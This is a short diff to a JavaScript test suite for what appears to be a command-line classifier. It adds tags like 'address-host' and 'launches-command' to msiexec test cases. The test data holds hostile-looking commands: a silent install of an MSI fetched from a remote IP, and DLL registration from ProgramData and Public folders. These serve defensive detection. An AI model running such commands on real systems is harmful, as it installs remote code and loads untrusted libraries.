@@ -22,7 +22,7 @@ describe('msiexec', () => {
       'msiexec.exe /q /i http://10.1.2.3/a.msi',
       'msiexec /q /i http://<ip>/*.msi',
       'msiexec|install|url|msi',
-      ['remote-url'],
+      ['remote-url', 'address-host'],
       null,
     ],
     [
@@ -57,14 +57,14 @@ describe('msiexec', () => {
       'msiexec /y C:\\ProgramData\\a.dll',
       'msiexec /y <program-data-root>\\a.dll',
       'msiexec|register-library|program-data-root|dll',
-      ['program-data-root'],
+      ['launches-command', 'program-data-root'],
       'a.dll',
     ],
     [
       'msiexec /z "C:\\Users\\Public\\a.dll"',
       'msiexec /z <public>\\a.dll',
       'msiexec|unregister-library|public|dll',
-      ['public-folder'],
+      ['launches-command', 'public-folder'],
       'a.dll',
     ],
     [
